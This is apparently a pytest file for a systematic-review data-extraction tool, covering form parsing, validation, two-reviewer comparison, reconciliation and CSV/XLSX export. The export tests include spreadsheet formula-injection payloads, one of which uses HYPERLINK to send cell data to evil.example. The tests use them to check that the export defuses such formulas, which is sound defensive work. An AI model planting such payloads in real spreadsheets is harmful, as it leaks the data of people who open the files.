"""Tests for data-extraction forms: definition, answers, comparison, reconciling, export."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from steppingstones.evidence.extraction import (
    FIRST,
    OUTCOMES_BY_ARM,
    SECOND,
    STUDY_CHARACTERISTICS,
    STUDY_DESIGNS,
    Field,
    FormDefinition,
    FormError,
    ReconcileError,
    Supplied,
    agreement_summary,
    compare,
    default_form,
    export_rows,
    form_to_data,
    parse_form,
    reconcile,
    table_rows,
    validate_answers,
    workbook_sheets,
    write_csv,
    write_xlsx,
)

# --- realistic extractions of one cohort study by two reviewers ---------------------------

FIRST_REVIEWER = {
    "design": "cohort",
    "country": "Canada",
    "setting": "Community  perinatal  program, Vancouver",
    "population": "Pregnant women who use substances, mostly opioids and stimulants.",
    "model_of_care": "Integrated one-stop perinatal care with outreach.",
    "sample_size": "160",
    "outcomes": [
        {"outcome": "Infant discharged in mother's care", "timepoint": "discharge"},
        {"outcome": "NOWS treated with morphine", "timepoint": "birth admission"},
    ],
    "outcome_data": [
        {"outcome": "Discharged in mother's care", "arm": "Integrated care", "events": "45",
         "total": "60"},
        {"outcome": "Discharged in mother's care", "arm": "Usual care", "events": 22,
         "total": 100},
        {"outcome": "Length of stay (days)", "arm": "Integrated care", "mean": "9.5",
         "sd": "4.1", "total": 60},
    ],
}  # fmt: skip

SECOND_REVIEWER = {
    "design": "Cohort",  # same choice, other case
    "country": "canada ",  # same text after case and spaces
    "setting": "Community perinatal program, Vancouver",
    "population": "Pregnant women who use substances.",  # differs
    "model_of_care": "",  # missing in the second
    "sample_size": 160.0,  # same number
    "outcomes": [
        {"outcome": "infant discharged in mother's care", "timepoint": "Discharge"},
        {"outcome": "NOWS treated with morphine", "timepoint": "birth admission"},
    ],
    "outcome_data": [
        {"outcome": "Discharged in mother's care", "arm": "Integrated care", "events": 45,
         "total": 60},
        {"outcome": "Discharged in mother's care", "arm": "Usual care", "events": 24,
         "total": 100},  # events differ
        {"outcome": "Length of stay (days)", "arm": "Integrated care", "mean": 9.50,
         "sd": "4.10", "total": "60"},
        {"outcome": "Length of stay (days)", "arm": "Usual care", "mean": 12.0, "sd": 5.0,
         "total": 100},  # only in the second
    ],
}  # fmt: skip


def by_key(comparisons):
    return {comparison.key: comparison for comparison in comparisons}


# --- the form ------------------------------------------------------------------------------


def test_default_form_starts_with_the_study_characteristics():
    form = default_form()
    assert form.fields[: len(STUDY_CHARACTERISTICS)] == STUDY_CHARACTERISTICS
    assert form.fields[-1] == OUTCOMES_BY_ARM
    assert form.keys == (
        "design",
        "country",
        "setting",
        "population",
        "model_of_care",
        "sample_size",
        "outcomes",
        "outcome_data",
    )
    design = form.field("design")
    assert design.kind == "choice" and design.required
    assert design.choices == STUDY_DESIGNS
    assert "cluster RCT" in design.choices and "mixed methods" in design.choices
    assert form.field("sample_size").kind == "integer"
    assert form.field("outcomes").kind == "table"
    assert [column.key for column in OUTCOMES_BY_ARM.columns] == [
        "outcome",
        "arm",
        "events",
        "total",
        "mean",
        "sd",
    ]


def test_form_round_trips_through_json():
    form = default_form()
    data = form_to_data(form)
    assert parse_form(json.loads(json.dumps(data))) == form
    assert data["fields"][0]["choices"][0] == "RCT"
    assert data["fields"][-1]["columns"][2] == {
        "key": "events",
        "label": "Events",
        "kind": "integer",
        "help": "",
        "required": False,
        "choices": [],
        "columns": [],
        "unit": "",
    }


def test_parse_form_fills_defaults_and_strips_labels():
    form = parse_form(
        {
            "fields": [
                {"key": "funding", "label": " Funding source ", "kind": "text"},
                {"key": "arms", "label": "Arms", "kind": "multi-choice", "choices": ["a ", "b"]},
            ]
        }
    )
    assert form.fields[0] == Field("funding", "Funding source", "text")
    assert form.fields[1].choices == ("a", "b")


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        (
            [
                {"key": "country", "label": "Country", "kind": "text"},
                {"key": "country", "label": "Country again", "kind": "text"},
            ],
            "field 'country': duplicate key (fields 1 and 2)",
        ),
        (
            [{"key": "Sample size", "label": "Sample size", "kind": "integer"}],
            "field 'Sample size': the key 'Sample size' is not a slug",
        ),
        (
            [{"key": "design", "label": "Design", "kind": "choice"}],
            "field 'design': a choice field needs choices",
        ),
        (
            [{"key": "design", "label": "Design", "kind": "choice", "choices": []}],
            "field 'design': a choice field needs choices",
        ),
        (
            [{"key": "when", "label": "When", "kind": "date"}],
            "field 'when': unknown kind 'date'",
        ),
        (
            [{"key": "results", "label": "Results", "kind": "table"}],
            "field 'results': a table field needs columns",
        ),
        (
            [
                {
                    "key": "results",
                    "label": "Results",
                    "kind": "table",
                    "columns": [{"key": "ok", "label": "OK", "kind": "yes-no"}],
                }
            ],
            "field 'results', column 'ok': a table column cannot be of kind 'yes-no'",
        ),
        (
            [
                {
                    "key": "results",
                    "label": "Results",
                    "kind": "table",
                    "columns": [
                        {"key": "arm", "label": "Arm", "kind": "text"},
                        {"key": "arm", "label": "Arm", "kind": "text"},
                    ],
                }
            ],
            "field 'results', column 'arm': duplicate column key",
        ),
        (
            [{"key": "country", "label": "Country", "kind": "text", "choices": ["UK"]}],
            "field 'country': only choice and multi-choice fields have choices",
        ),
        (
            [{"key": "country", "label": "", "kind": "text"}],
            "field 'country': needs a label",
        ),
        (
            [{"key": "country", "kind": "text"}],
            "field 'country': needs a label",
        ),
        (
            [{"label": "Country", "kind": "text"}],
            "field 1: needs a key",
        ),
        (
            [{"key": "country", "label": "Country", "kind": "text", "choice": ["UK"]}],
            "field 'country': unknown setting(s): choice",
        ),
        (
            [{"key": "n", "label": "N", "kind": "integer", "required": "yes"}],
            "field 'n': required must be true or false",
        ),
        (
            [{"key": "site", "label": "Site", "kind": "text", "unit": "km"}],
            "field 'site': only number and integer fields have a unit",
        ),
        (
            [
                {
                    "key": "arms",
                    "label": "Arms",
                    "kind": "multi-choice",
                    "choices": ["usual care", "Usual  care"],
                }
            ],
            "field 'arms': the choice 'Usual  care' is listed twice",
        ),
        (
            [{"key": "arms", "label": "Arms", "kind": "multi-choice", "choices": ["a; b"]}],
            "field 'arms': the choice 'a; b' contains ';'",
        ),
        (["design"], "field 1: expected an object"),
    ],
)
def test_parse_form_errors_name_the_field(fields, expected):
    with pytest.raises(FormError) as caught:
        parse_form({"fields": fields})
    assert any(message.startswith(expected) for message in caught.value.messages), (
        caught.value.messages
    )


def test_parse_form_reports_every_problem_at_once():
    with pytest.raises(FormError) as caught:
        parse_form(
            {
                "fields": [
                    {"key": "design", "label": "Design", "kind": "choice"},
                    {"key": "results", "label": "Results", "kind": "table"},
                ]
            }
        )
    assert caught.value.messages == [
        "field 'design': a choice field needs choices",
        "field 'results': a table field needs columns",
    ]
    assert "field 'design'" in str(caught.value)


@pytest.mark.parametrize("data", [None, [], {"fields": "design"}, {"field": []}])
def test_parse_form_rejects_data_that_is_not_a_form(data):
    with pytest.raises(FormError):
        parse_form(data)


def test_form_definition_checks_fields_made_in_code():
    with pytest.raises(FormError, match="field 'x': a table field needs columns"):
        FormDefinition((Field("x", "X", "table"),))


# --- validating answers -----------------------------------------------------------------


def test_validate_cleans_types():
    cleaned, messages = validate_answers(default_form(), FIRST_REVIEWER)
    assert messages == []
    assert cleaned["design"] == "cohort"
    assert cleaned["sample_size"] == 160 and type(cleaned["sample_size"]) is int
    assert cleaned["setting"] == "Community  perinatal  program, Vancouver"
    rows = cleaned["outcome_data"]
    assert rows[0] == {
        "outcome": "Discharged in mother's care",
        "arm": "Integrated care",
        "events": 45,
        "total": 60,
    }
    assert type(rows[0]["events"]) is int
    assert rows[2]["mean"] == 9.5 and type(rows[2]["mean"]) is float
    assert rows[2]["sd"] == pytest.approx(4.1)
    assert "mean" not in rows[0]  # blank cells left out
    json.dumps(cleaned)


def test_validate_cleans_every_kind():
    form = parse_form(
        {
            "fields": [
                {"key": "age", "label": "Mean age", "kind": "number", "unit": "years"},
                {"key": "arms", "label": "Arms", "kind": "multi-choice",
                 "choices": ["usual care", "integrated care", "home visiting"]},
                {"key": "consent", "label": "Consent reported", "kind": "yes-no"},
                {"key": "notes", "label": "Notes", "kind": "long-text"},
                {"key": "design", "label": "Design", "kind": "choice", "choices": ["RCT"]},
            ]
        }
    )  # fmt: skip
    cleaned, messages = validate_answers(
        form,
        {
            "age": " \u221227.5 ",  # a minus sign from a PDF
            "arms": ["Integrated  care", "usual care", "usual care"],
            "consent": "Yes",
            "notes": "  line one\r\nline two  ",
            "design": "rct",
        },
    )
    assert messages == []
    assert cleaned == {
        "age": -27.5,
        "arms": ["usual care", "integrated care"],  # the form's order, once each
        "consent": True,
        "notes": "line one\nline two",
        "design": "RCT",
    }
    cleaned, messages = validate_answers(form, {"arms": "home visiting; usual care", "age": 3})
    assert messages == []
    assert cleaned == {"arms": ["usual care", "home visiting"], "age": 3.0}
    assert validate_answers(form, {"consent": False})[0] == {"consent": False}


def test_validate_messages_name_label_row_and_column():
    answers = {
        "design": "randomised",
        "sample_size": "12.5",
        "outcome_data": [
            {"outcome": "Preterm birth", "arm": "Integrated care", "events": 4, "total": 50},
            {"outcome": "Preterm birth", "arm": "Usual care", "events": "ten", "total": 48},
            {"outcome": "", "arm": "", "events": None},  # blank row, skipped
            {"arm": "Usual care", "mean": "12,5", "sd": "abc", "colour": "red"},
        ],
        "funding": "NIH",
    }
    cleaned, messages = validate_answers(default_form(), answers)
    assert messages == [
        "Study design: 'randomised' is not one of: " + ", ".join(STUDY_DESIGNS),
        "Sample size: '12.5' is not a whole number",
        "Outcomes by arm, row 2, Events: 'ten' is not a whole number",
        "Outcomes by arm, row 4: unknown column 'colour'",
        "Outcomes by arm, row 4, Outcome: required",
        "Outcomes by arm, row 4, Mean: '12,5' is not a number: use a point for decimals "
        "(12.5) and no thousands separators",
        "Outcomes by arm, row 4, SD: 'abc' is not a number",
        "unknown field 'funding'",
    ]
    assert cleaned == {}


def test_validate_rejects_decimal_comma_and_accepts_point():
    form = FormDefinition((Field("mean", "Mean", "number"), Field("n", "N", "integer")))
    assert validate_answers(form, {"mean": "12.5", "n": "12.0"}) == ({"mean": 12.5, "n": 12}, [])
    _, messages = validate_answers(form, {"mean": "12,5", "n": "1,200"})
    assert messages[0].startswith("Mean: '12,5' is not a number: use a point for decimals")
    assert messages[1].startswith("N: '1,200' is not a whole number: use a point")
    _, messages = validate_answers(form, {"mean": "nan", "n": True})
    assert messages == ["Mean: 'nan' is not a number", "N: True is not a whole number"]
    _, messages = validate_answers(form, {"mean": float("inf"), "n": 7.5})
    assert messages == ["Mean: inf is not a number", "N: 7.5 is not a whole number"]


def test_validate_required_fields():
    form = FormDefinition(
        (
            Field("design", "Study design", "choice", required=True, choices=("RCT", "cohort")),
            Field("arms", "Arms", "multi-choice", required=True, choices=("a", "b")),
            Field("data", "Data", "table", required=True, columns=(Field("x", "X", "text"),)),
            Field("country", "Country", "text"),
        )
    )
    cleaned, messages = validate_answers(
        form, {"design": "  ", "arms": [], "data": [{"x": ""}], "country": None}
    )
    assert cleaned == {}
    assert messages == ["Study design: required", "Arms: required", "Data: required"]


def test_validate_wrong_shapes():
    form = default_form()
    _, messages = validate_answers(
        form, {"outcome_data": "45/60", "outcomes": ["NOWS"], "country": ["Canada"]}
    )
    assert messages == [
        "Study design: required",
        "Country: expected text, not ['Canada']",
        "Outcomes reported, row 1: expected a row of column values",
        "Outcomes by arm: expected a list of rows",
    ]


# --- comparing ---------------------------------------------------------------------------


def test_compare_study_characteristics():
    comparisons = by_key(compare(default_form(), FIRST_REVIEWER, SECOND_REVIEWER))
    assert list(comparisons) == list(default_form().keys)
    assert comparisons["design"].status == "agreed"
    assert comparisons["country"].status == "agreed"
    assert (comparisons["country"].first, comparisons["country"].second) == ("Canada", "canada")
    assert comparisons["setting"].status == "agreed"  # whitespace normalised
    assert comparisons["sample_size"].status == "agreed"  # "160" and 160.0
    assert comparisons["population"].status == "differing"
    assert comparisons["population"].second == "Pregnant women who use substances."
    missing = comparisons["model_of_care"]
    assert missing.status == "missing" and missing.needs_decision
    assert missing.second is None
    assert comparisons["outcomes"].status == "agreed"  # table text compared ignoring case


def test_compare_outcome_by_arm_table_row_by_row():
    comparison = by_key(compare(default_form(), FIRST_REVIEWER, SECOND_REVIEWER))["outcome_data"]
    assert comparison.status == "differing"
    assert [(row.number, row.status) for row in comparison.rows] == [
        (1, "agreed"),  # "45" and 45
        (2, "differing"),
        (3, "agreed"),  # 9.5 and 9.50, "4.1" and "4.10", 60 and "60"
        (4, "only-second"),
    ]
    assert comparison.rows[1].differing_columns == ("events",)
    assert (comparison.rows[1].first["events"], comparison.rows[1].second["events"]) == (22, 24)
    assert comparison.rows[3].first is None
    assert comparison.rows[3].second["arm"] == "Usual care"

    flipped = by_key(compare(default_form(), SECOND_REVIEWER, FIRST_REVIEWER))["outcome_data"]
    assert flipped.rows[3].status == "only-first"


def test_compare_multi_choice_as_sets_numbers_numerically_and_invalid_as_given():
    form = FormDefinition(
        (
            Field("arms", "Arms", "multi-choice", choices=("a", "b", "c")),
            Field("mean", "Mean", "number"),
            Field("n", "N", "integer"),
            Field("blind", "Blinded", "yes-no"),
            Field("unused", "Unused", "text"),
        )
    )
    comparisons = by_key(
        compare(
            form,
            {"arms": ["b", "a"], "mean": "0.30", "n": "12,5", "blind": "no"},
            {"arms": "a; b", "mean": 0.1 + 0.2, "n": "12.5", "blind": False},
        )
    )
    assert comparisons["arms"].status == "agreed"
    assert comparisons["mean"].status == "agreed"
    assert comparisons["n"].status == "differing"
    assert (comparisons["n"].first, comparisons["n"].second) == ("12,5", "12.5")
    assert comparisons["blind"].status == "agreed"
    assert comparisons["unused"].status == "empty"
    assert not comparisons["unused"].needs_decision
    # A choice not on the form is shown as given, and still compared as a set.
    invalid = by_key(compare(form, {"arms": ["c", "x"]}, {"arms": ["x", "c"]}))["arms"]
    assert (invalid.status, invalid.first, invalid.second) == ("agreed", ["c", "x"], ["x", "c"])


def test_agreement_summary():
    summary = agreement_summary(compare(default_form(), FIRST_REVIEWER, SECOND_REVIEWER))
    assert (summary.agreed, summary.differing, summary.missing, summary.empty) == (5, 2, 1, 0)
    assert summary.compared == 8
    assert summary.percent_agreement == pytest.approx(62.5)
    empty = agreement_summary(compare(default_form(), {}, {}))
    assert (empty.empty, empty.percent_agreement) == (8, None)


# --- reconciling --------------------------------------------------------------------------


def test_reconcile_takes_agreed_fields_and_the_picks():
    consensus = reconcile(
        default_form(),
        FIRST_REVIEWER,
        SECOND_REVIEWER,
        {"population": FIRST, "model_of_care": SECOND, "outcome_data": SECOND},
    )
    assert consensus["design"] == "cohort"
    assert consensus["country"] == "Canada"  # agreed: the first extraction's spelling
    assert consensus["sample_size"] == 160
    assert consensus["population"].endswith("mostly opioids and stimulants.")
    assert "model_of_care" not in consensus  # the second left it blank
    assert [row["events"] for row in consensus["outcome_data"][:2]] == [45, 24]
    assert len(consensus["outcome_data"]) == 4
    assert validate_answers(default_form(), consensus) == (consensus, [])


def test_reconcile_with_supplied_values():
    rows = [
        {"outcome": "Discharged in mother's care", "arm": "Integrated care", "events": "45",
         "total": "60"},
        {"outcome": "Discharged in mother's care", "arm": "Usual care", "events": "23",
         "total": "100"},
    ]  # fmt: skip
    consensus = reconcile(
        default_form(),
        FIRST_REVIEWER,
        SECOND_REVIEWER,
        {
            "population": "Pregnant women using opioids or stimulants",
            "model_of_care": Supplied(SECOND),  # the text itself, not the second's answer
            "outcome_data": rows,
            "country": "Canada (British Columbia)",  # overrides an agreed field
        },
    )
    assert consensus["population"] == "Pregnant women using opioids or stimulants"
    assert consensus["model_of_care"] == "second"
    assert consensus["outcome_data"][1] == {
        "outcome": "Discharged in mother's care",
        "arm": "Usual care",
        "events": 23,
        "total": 100,
    }
    assert consensus["country"] == "Canada (British Columbia)"


def test_reconcile_names_unresolved_fields():
    with pytest.raises(ReconcileError) as caught:
        reconcile(default_form(), FIRST_REVIEWER, SECOND_REVIEWER, {"population": SECOND})
    assert caught.value.messages == [
        "Model of care: only the first extraction has an answer; choose first, second or "
        "supply a value",
        "Outcomes by arm: the extractions differ in row(s) 2, 4; choose first, second or "
        "supply a value",
    ]


def test_reconcile_reports_differing_values_and_invalid_choices():
    form = FormDefinition(
        (
            Field("design", "Study design", "choice", required=True, choices=STUDY_DESIGNS),
            Field("n", "Sample size", "integer"),
        )
    )
    with pytest.raises(ReconcileError) as caught:
        reconcile(form, {"design": "RCT", "n": 10}, {"design": "cohort", "n": 12}, {"n": "a dozen"})
    assert caught.value.messages == [
        "Study design: the extractions differ ('RCT' and 'cohort'); choose first, second or "
        "supply a value",
        "Sample size: 'a dozen' is not a whole number",
    ]
    with pytest.raises(ReconcileError) as caught:
        reconcile(form, {"design": "RCT"}, {"design": "RCT"}, {"design": None, "size": FIRST})
    assert caught.value.messages == [
        "unknown field 'size' in the choices",
        "Study design: required",
    ]


def test_reconcile_validates_agreed_answers_too():
    form = FormDefinition((Field("mean", "Mean", "number"),))
    with pytest.raises(ReconcileError, match=r"Mean: '12,5' is not a number"):
        reconcile(form, {"mean": "12,5"}, {"mean": " 12,5"}, {})


# --- export ----------------------------------------------------------------------------------


def extractions():
    consensus = reconcile(
        default_form(),
        FIRST_REVIEWER,
        SECOND_REVIEWER,
        {"population": FIRST, "model_of_care": FIRST, "outcome_data": SECOND},
    )
    return [
        ("Smith 2019", "ana", FIRST_REVIEWER),
        ("Smith 2019", "ben", SECOND_REVIEWER),
        ("Smith 2019", "consensus", consensus),
    ]


def test_export_rows_wide():
    form = FormDefinition(
        (
            *STUDY_CHARACTERISTICS[:6],
            Field("arms", "Arms", "multi-choice", choices=("usual care", "integrated care")),
            Field("blind", "Blinded", "yes-no"),
            Field("outcomes", "Outcomes", "table", columns=(Field("outcome", "Outcome", "text"),)),
        )
    )
    header, rows = export_rows(
        form,
        [
            (
                "Smith 2019",
                "ana",
                {
                    "design": "rct",
                    "sample_size": "160",
                    "arms": ["integrated care", "usual care"],
                    "blind": "no",
                    "outcomes": [{"outcome": "NOWS"}, {"outcome": "Preterm birth"}],
                },
            )
        ],
    )
    assert header == [
        "Study",
        "Reviewer",
        "Study design",
        "Country",
        "Setting",
        "Population",
        "Model of care",
        "Sample size (participants)",
        "Arms",
        "Blinded",
        "Outcomes",
    ]
    assert rows == [
        [
            "Smith 2019",
            "ana",
            "RCT",
            None,
            None,
            None,
            None,
            160,
            "usual care; integrated care",
            "no",
            "Outcome: NOWS\nOutcome: Preterm birth",
        ]
    ]


def test_export_headings_keep_same_labels_apart():
    form = FormDefinition((Field("study_id", "Study", "text"), Field("n", "N", "integer")))
    header, _ = export_rows(form, [])
    assert header == ["Study", "Reviewer", "Study [study_id]", "N"]


def test_table_rows_long():
    header, rows = table_rows(default_form(), "outcome_data", extractions())
    assert header == ["Study", "Reviewer", "Outcome", "Arm", "Events", "Total", "Mean", "SD"]
    assert len(rows) == 3 + 4 + 4
    assert rows[0] == [
        "Smith 2019",
        "ana",
        "Discharged in mother's care",
        "Integrated care",
        45,
        60,
        None,
        None,
    ]
    assert rows[2][6:] == [9.5, 4.1]
    assert rows[-1][:4] == ["Smith 2019", "consensus", "Length of stay (days)", "Usual care"]
    assert rows[-1][6:] == [12, 5]  # whole floats written as whole numbers
    with pytest.raises(ValueError, match="not a table"):
        table_rows(default_form(), "design", extractions())
    with pytest.raises(KeyError):
        table_rows(default_form(), "nope", extractions())


def test_csv_export_defuses_formulas():
    form = FormDefinition(
        (Field("country", "Country", "text"), Field("notes", '=HYPERLINK("http://x")', "text"))
    )
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    header, rows = export_rows(form, [("@Smith 2019", "ana", {"country": hostile})])
    handle = io.StringIO(newline="")
    assert write_csv(handle, header, rows) == 1
    read = list(csv.reader(io.StringIO(handle.getvalue())))
    assert read[0] == ["Study", "Reviewer", "Country", '\'=HYPERLINK("http://x")']
    assert read[1] == ["'@Smith 2019", "ana", "'" + hostile, ""]


def test_csv_export_of_the_wide_table():
    header, rows = export_rows(default_form(), extractions())
    handle = io.StringIO(newline="")
    assert write_csv(handle, header, rows) == 3
    read = list(csv.DictReader(io.StringIO(handle.getvalue())))
    assert [row["Reviewer"] for row in read] == ["ana", "ben", "consensus"]
    assert read[1]["Sample size (participants)"] == "160"
    assert read[2]["Outcomes by arm"].splitlines()[1] == (
        "Outcome: Discharged in mother's care, Arm: Usual care, Events: 24, Total: 100"
    )


def test_xlsx_round_trip_keeps_numbers_and_defuses_text():
    sheets = workbook_sheets(default_form(), extractions())
    assert list(sheets) == ["Extractions", "Outcomes reported", "Outcomes by arm"]
    header, rows = sheets["Extractions"]
    rows.append(['=HYPERLINK("http://evil.example")', "ben\x01", *([None] * (len(header) - 2))])
    rows.append(["\x02=1+1", "-ana", *([None] * (len(header) - 2))])
    out = io.BytesIO()
    write_xlsx(out, sheets)
    out.seek(0)
    workbook = load_workbook(out)
    assert workbook.sheetnames == ["Extractions", "Outcomes reported", "Outcomes by arm"]

    wide = workbook["Extractions"]
    assert [cell.value for cell in wide[1]] == header
    assert all(cell.font.bold for cell in wide[1])
    assert wide.freeze_panes == "A2"
    size_column = header.index("Sample size (participants)") + 1
    assert wide.cell(row=2, column=size_column).value == 160
    assert wide.cell(row=2, column=size_column).data_type == "n"
    assert wide.cell(row=5, column=1).value == '\'=HYPERLINK("http://evil.example")'
    assert wide.cell(row=5, column=1).data_type == "s"
    assert wide.cell(row=5, column=2).value == "ben"
    # The control character is dropped before the check, so the formula is still defused.
    assert wide.cell(row=6, column=1).value == "'=1+1"
    assert wide.cell(row=6, column=2).value == "'-ana"

    long = workbook["Outcomes by arm"]
    values = [[cell.value for cell in row] for row in long.iter_rows()]
    assert values[0] == ["Study", "Reviewer", "Outcome", "Arm", "Events", "Total", "Mean", "SD"]
    assert values[1] == [
        "Smith 2019",
        "ana",
        "Discharged in mother's care",
        "Integrated care",
        45,
        60,
        None,
        None,
    ]
    assert values[3][6:] == [9.5, 4.1]
    assert isinstance(values[3][6], float) and isinstance(values[1][4], int)
    assert long.freeze_panes == "A2"


def test_xlsx_sheet_names_are_made_acceptable(tmp_path):
    path = tmp_path / "export.xlsx"
    long_name = "Outcomes by arm: neonatal / maternal [all]"
    write_xlsx(
        path,
        {
            long_name: (["a"], [[1]]),
            long_name + " again": (["b"], [[-2.5]]),
            "'quoted'": (["c"], []),
        },
    )
    workbook = load_workbook(path)
    assert workbook.sheetnames == [
        "Outcomes by arm- neonatal - mat",
        "Outcomes by arm- neonatal - (2)",
        "quoted",
    ]
    assert workbook.worksheets[1]["A2"].value == -2.5
    with pytest.raises(ValueError, match="at least one sheet"):
        write_xlsx(io.BytesIO(), {})
